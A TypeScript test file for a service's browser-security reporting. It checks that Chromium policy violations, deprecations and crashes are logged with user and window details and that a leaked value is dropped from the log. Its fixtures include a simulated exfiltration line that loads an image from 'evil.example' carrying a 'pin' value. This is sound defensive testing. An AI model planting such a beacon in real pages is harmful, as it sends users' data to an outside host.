import { once } from 'node:events'
import { createServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { answerByFetch } from '@svc/node/testing'
import { pino } from 'pino'
import type { Browser } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect } from 'vitest'
import { launchChromium } from './chromium.ts'
import { selfSigned } from './testing/certificate.ts'
import { openRealPage, type RealPage } from './testing/real-page.ts'
import { verifies } from './verifies.ts'

let browser: Browser
let at: RealPage
const lines: Record<string, unknown>[] = []
const logger = pino({ base: null }, { write: (line: string) => void lines.push(JSON.parse(line)) })
const reported = () => lines.filter(({ kind }) => kind !== undefined)

beforeAll(async () => {
  // Reports come within a minute; with the second switch at once.
  browser = await launchChromium(['--ignore-certificate-errors', '--short-reporting-delay'], true)
})
afterAll(() => browser.close())
afterEach(async () => {
  await at.close()
  lines.length = 0
})

/** A server that takes https for a host, as a proxy before it does. */
async function serveTls({ host }: RealPage) {
  const server = createServer(selfSigned(['localhost'], [[127, 0, 0, 1]]), (request, response) => {
    answerByFetch(host.fetch, request, response).catch(() => response.destroy())
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  return {
    url: `https://127.0.0.1:${(server.address() as AddressInfo).port}`,
    async close() {
      const closed = once(server, 'close')
      server.close()
      server.closeAllConnections()
      await closed
    },
  }
}

describe('the operator reads what Chromium reports', () => {
  verifies.each('wall.reports')([
    ['the one origin', undefined],
    ['a site of its own', 'http://{app}.localhost:{port}'],
  ])('of what the policy of a bundle at %s refused, with its window', async (_, bundleOrigin) => {
    const script = `import { svc } from '@svc/sdk'; new Image().src = 'http://evil.example/a?pin=1'; svc.ready`
    at = await openRealPage(browser, { app: script }, { logger, ...(bundleOrigin && { bundleOrigin }) })
    await at.mount('app')
    await expect.poll(reported, { timeout: 20_000 }).toHaveLength(1)
    expect(reported()).toEqual([
      expect.objectContaining({
        kind: 'csp-violation',
        directive: 'img-src',
        blocked: 'http://evil.example',
        user: 'ada',
        window: expect.any(String),
        app: expect.any(String),
      }),
    ])
    expect(JSON.stringify(reported())).not.toContain('pin')
  })

  verifies('wall.reports', 'of the page over https: refused, deprecated, crashed', async () => {
    at = await openRealPage(browser, { app: '' }, { logger })
    const tls = await serveTls(at)
    try {
      const context = await browser.newContext({ ignoreHTTPSErrors: true })
      const page = await context.newPage()
      await page.goto(tls.url)
      await page.evaluate(() => {
        new Image().src = 'https://evil.example/?pin=1'
        navigator.geolocation.getCurrentPosition(
          () => {},
          () => {},
        )
        const request = new XMLHttpRequest()
        request.open('GET', '/', false)
        request.send()
      })
      const kinds = () => [...new Set(reported().map(({ kind }) => kind))].sort()
      const before = ['csp-violation', 'deprecation', 'permissions-policy-violation']
      await expect.poll(kinds, { timeout: 20_000 }).toEqual(before)
      await page.goto('chrome://crash').catch(() => {})
      await expect.poll(kinds, { timeout: 20_000 }).toEqual(['crash', ...before].sort())
      await context.close()
    } finally {
      await tls.close()
    }
  })
})
